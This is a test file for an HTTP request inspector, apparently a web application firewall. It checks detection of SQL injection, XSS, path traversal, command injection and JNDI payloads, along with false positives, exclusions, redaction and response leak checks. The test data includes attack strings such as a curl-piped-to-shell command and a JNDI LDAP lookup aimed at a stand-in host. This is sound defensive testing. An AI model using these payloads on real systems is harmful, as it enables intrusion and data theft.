import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { detectionsOf, HttpInspector, type HttpRequest, ResponseInspector } from '../../src/http/index.ts';
import { vetPattern } from '../../src/http/pattern.ts';
import { shippedSignatures } from '../../src/http/program.ts';
import { describeBackends } from '../parity/backends.ts';

const get = (url: string, headers: Record<string, string> = {}): HttpRequest => ({
  method: 'GET',
  url,
  rawHeaders: Object.entries(headers).flat(),
});
const post = (type: string, body: string): HttpRequest => ({
  method: 'POST',
  url: '/',
  rawHeaders: ['content-type', type],
  body: Buffer.from(body),
});
const query = (value: string) => get(`/search?q=${encodeURIComponent(value)}`);

describeBackends('inspection', (backend) => {
  const inspector = new HttpInspector({ backend });
  const categories = (request: HttpRequest) => Object.keys(inspector.inspect(request).scores);

  test.each([
    ['sqli', "x' AND 5=5 -- "],
    ['sqli', '7 union/**/all select login, hash from accounts'],
    ['sqli', '%2527%2520or%25201%253D1--'],
    ['sqli', '(select case when (3=3) then 1 else 0 end)'],
    ['xss', '<details ontoggle=go()>'],
    ['xss', '"><scr\0ipt src=//a.example>'],
    ['xss', '<a href="jav&#x09;ascript:go()">'],
    ['xss', 'v b\ts\nc r i p t :'],
    ['xss', "' in window.status = x"],
    ['xss', 'x</textarea>y'],
    ['sqli', "( @a or 'b' ) --"],
    ['sqli', '7--'],
    ['sqli', '8+order+by+1--'],
    ['sqli', 'select @x foo -- y'],
    ['path-traversal', '..%c0%af..%c0%afetc/passwd'],
    ['rce', "; c'a't /e\\tc/passwd"],
    ['rce', '$(curl${IFS}http://a.example/x|sh)'],
    ['injection', '{{7*7}}'],
    ['java', '${${lower:j}ndi:ldap://a.example/x}'],
    ['php', "<?php system('id'); ?>"],
  ])('finds %s in %j', (category, value) => {
    expect(categories(query(value))).toContain(category);
    expect(inspector.inspect(query(value)).attack).toBe(true);
  });

  test.each([
    "O'Brien & Sons",
    "It's select or special, and that's all",
    'Please select a table and drop me a line; thanks',
    '5 > 3 and 2 < 4',
    'https://example.com/a/../b?x=1',
    'The "union" of two sets -- a primer #1',
    'Tom & Jerry | cat and mouse; a classic',
    'price <= 100',
    '(see above) -- the second one',
    'items 1,2 and 3 (in order) #4',
    'he said "yes" and 1 more',
    'a value --> another value',
    'Ünïcödé ’quotes’ – and dashes',
  ])('passes %j', (value) => {
    expect(inspector.inspect(query(value)).attack).toBe(false);
  });

  test('reads a value whole where character references were taken for separators', () => {
    expect(categories(get('/?q=1%3B&gt%3B+src+onerror=confirm&lpar;1&rpar;&lt;'))).toContain('xss');
    expect(categories(post('application/x-www-form-urlencoded', 'a=&lt;svg onload=go()&gt;'))).toContain(
      'xss',
    );
    expect(inspector.inspect(get('/?a=1&amp;b=2&lt=3')).score).toBe(0);
  });

  test('reads base64 whose plus signs a form has made spaces', () => {
    const hidden = Buffer.from('<img src=x onerror=alert(document.domain)>>>').toString('base64');
    expect(categories(get(`/?q=${hidden.replaceAll('=', '')}`))).toContain('xss');
  });

  test('reads every format of body', () => {
    const inner = "1' or '1'='1";
    for (const request of [
      post('application/json', JSON.stringify({ a: [{ b: inner }] })),
      post('application/x-www-form-urlencoded', new URLSearchParams({ b: inner }).toString()),
      post(
        'multipart/form-data; boundary=x',
        `--x\r\ncontent-disposition: form-data; name="b"\r\n\r\n${inner}\r\n--x--`,
      ),
      post('application/xml', `<a b="1&#39; or &#39;1&#39;=&#39;1"/>`),
      post('text/plain', inner),
    ]) {
      expect(inspector.inspect(request).scores.sqli).toBeGreaterThan(0);
    }
  });

  test('leaves out what is excluded, hides secret values, and keeps thresholds apart', () => {
    const request = post('application/json', JSON.stringify({ password: "x' or 1=1--", note: 'fine' }));
    const [finding] = inspector.inspect(request).findings;
    expect([finding?.name, finding?.excerpt]).toEqual(['password', '[redacted]']);
    const without = new HttpInspector({ backend, exclusions: [{ parameter: 'password', category: 'sqli' }] });
    expect(without.inspect(request)).toMatchObject({ attack: false, score: 0 });
    const patient = new HttpInspector({ backend, thresholds: { sqli: 1000 } });
    expect(patient.inspect(request).attack).toBe(false);
    expect(() => new HttpInspector({ backend, exclusions: [{}] })).toThrowError(/exclusions\[0\]/);
  });

  test.each([1, 50, 300])('is not blinded by %i findings that are excluded', (count) => {
    const excluding = new HttpInspector({ backend, exclusions: [{ parameter: 'page', category: 'xss' }] });
    const pages = Array.from({ length: count }, (): [string, string] => [
      'page',
      '<script>alert(document.cookie)</script>',
    ]);
    const url = (...more: [string, string][]) => get(`/?${new URLSearchParams([...pages, ...more])}`);
    expect(excluding.inspect(url(['id', "x' or 1=1--"])).attack).toBe(true);
    expect(excluding.inspect(url(['id', '7'])).attack).toBe(false);
  });

  test('names values in JSON by where they stand', () => {
    const evil = "x' or 1=1--";
    const names = (body: unknown) => [
      ...new Set(
        inspector
          .inspect(post('application/json', typeof body === 'string' ? body : JSON.stringify(body)))
          .findings.map(({ location, name }) => `${location}.${name}`),
      ),
    ];
    expect(names({ user: { name: evil } })).toEqual(['body.user.name']);
    expect(names({ items: [{ id: 1 }, { id: evil }] })).toEqual(['body.items[].id']);
    expect(names([[evil]])).toEqual(['body.[][]']);
    expect(names([{ a: [1, { b: 2 }, evil] }])).toEqual(['body.[].a[]']);
    expect(names(JSON.stringify(evil))).toEqual(['body.']);
    expect(names('{"a\\u002eb":{"":{"c":"x\' or 1=1--"}},"d":1}')).toEqual(['body.a.b.c']);
    expect(names({ a: { [evil]: 1 }, b: { c: 2 } })).toEqual([`bodyName.a.${evil}`]);
    const [deep] = names({ ['k'.repeat(200)]: { ['l'.repeat(200)]: evil } });
    expect(deep).toBe(`body.${'k'.repeat(200)}.${'l'.repeat(55)}`);
    const [cut] = inspector.inspect(post('application/json', '{"a":[{"b":')).findings;
    expect([cut?.signature.id, cut?.name]).toEqual(['protocol-json', 'a[].b']);
  });

  test.each([
    ['user.name', true],
    ['body.user.name', true],
    ['user.*', true],
    ['body.user*', true],
    ['*.name', true],
    ['name', false],
    ['user', false],
    ['*.ame', false],
    ['query.user.name', false],
    ['items[].name', false],
  ])('the exclusion of %s leaves user.name out: %s', (parameter, left) => {
    const body = { user: { name: "x' or 1=1--" } };
    const excluding = new HttpInspector({ backend, exclusions: [{ parameter }] });
    expect(excluding.inspect(post('application/json', JSON.stringify(body))).findings.length === 0).toBe(
      left,
    );
  });

  test('excludes every element of an array, and no key of the same name elsewhere', () => {
    const excluding = new HttpInspector({ backend, exclusions: [{ parameter: 'items[].note' }] });
    const note = "x' or 1=1--";
    const names = (body: unknown) => [
      ...new Set(
        excluding.inspect(post('application/json', JSON.stringify(body))).findings.map(({ name }) => name),
      ),
    ];
    expect(names({ items: [{ note }, { note }] })).toEqual([]);
    expect(names({ items: [{ note }], note })).toEqual(['note']);
    expect(names({ items: [{ sub: { note } }] })).toEqual(['items[].sub.note']);
  });

  test('hides values under secret names wherever they stand', () => {
    const excerpts = (body: unknown) =>
      inspector.inspect(post('application/json', JSON.stringify(body))).findings.map((one) => one.excerpt);
    const value = "x' or 1=1--";
    for (const body of [{ user: { pin: value } }, { a: [{ password: [value] }] }, { cookie: value }])
      expect(new Set(excerpts(body))).toEqual(new Set(['[redacted]']));
    expect(excerpts({ pins: { name: value } })).not.toContain('[redacted]');
  });

  test('gives detections of the main stream', () => {
    const verdict = inspector.inspect(query('<script>x</script>'));
    const detections = detectionsOf(verdict, {
      method: 'GET',
      path: '/search',
      clientAddress: '192.0.2.1',
      timeMs: 7,
    });
    expect(detections.map(({ ruleId }) => ruleId)).toEqual(['xss-element-closed', 'xss-script-tag']);
    expect(detections[1]).toMatchObject({
      kind: 'http',
      eventTimeMs: 7,
      matched: [{ field: 'query.q', value: '<script>x</script>' }],
      entities: { 'source.ip': '192.0.2.1', 'url.path': '/search' },
    });
  });

  test('bounds what hostile requests cost, and says so', () => {
    const ids = (request: HttpRequest) => inspector.inspect(request).findings.map((one) => one.signature.id);
    expect(ids(post('application/json', '['.repeat(10_000) + ']'.repeat(10_000)))).toContain(
      'protocol-json-depth',
    );
    expect(ids(get(`/?${'a=1&'.repeat(100_000)}`))).toContain('protocol-parameters');
    expect(
      ids(post('application/json', JSON.stringify({ a: ['x'.repeat(3 << 20), 'y'.repeat(3 << 20)] }))),
    ).toContain('protocol-budget');
    expect(
      ids(post('multipart/form-data; boundary=x', '--x\r\ncontent-disposition: form-data\r\n\r\na')),
    ).toContain('protocol-multipart');
    for (const piece of [
      "'",
      '((',
      '{{',
      '<a ',
      '$(',
      '%25',
      '&#',
      '\\u00',
      '/*',
      '{a,',
      'a.b(',
      '`',
      '${',
      '://',
    ]) {
      expect(inspector.inspect(post('text/plain', piece.repeat(60_000 / piece.length)))).toBeDefined();
    }
  });

  test('takes any bytes', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary' }),
        fc.uint8Array({ maxLength: 400 }),
        fc.string(),
        (url, body, type) => {
          const latin1 = (text: string) => Buffer.from(text).toString('latin1');
          const rawHeaders = ['content-type', latin1(type)];
          expect(inspector.inspect({ method: 'POST', url: latin1(url), rawHeaders, body })).toBeDefined();
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe('signatures', () => {
  const { program, signatures } = shippedSignatures();

  test('are named once and keep to the pattern subset', () => {
    expect(new Set(signatures.map((one) => one.id)).size).toBe(signatures.length);
    for (const [at, { kind, pattern }] of program.signatures.entries()) {
      if (pattern !== '')
        expect([signatures[at]?.id, vetPattern(pattern, kind !== 'text')]).toEqual([
          signatures[at]?.id,
          undefined,
        ]);
    }
  });

  test.each([
    ['a(?=b)', /look-around/],
    ['(a)\\1', /refer back/],
    ['a*', /bound/],
    ['(ab)+', /bound/],
    ['A', /lower-case/],
  ])('%s is refused', (pattern, reason) => {
    expect(vetPattern(pattern, false)).toMatch(reason);
  });
});

test('responses: what they give away', () => {
  const inspector = new ResponseInspector();
  const kinds = (text: string) => inspector.inspect(text).map((leak) => leak.kind);
  expect(kinds('Error: no\n    at open (/srv/app/db.js:10:5)\n')).toContain('stack-trace');
  expect(kinds('ORA-00933: SQL command not properly ended')).toContain('sql-error');
  expect(kinds('<title>Index of /backup</title>')).toContain('directory-listing');
  expect(kinds('<p>Order 4711 has shipped.</p>')).toEqual([]);
});
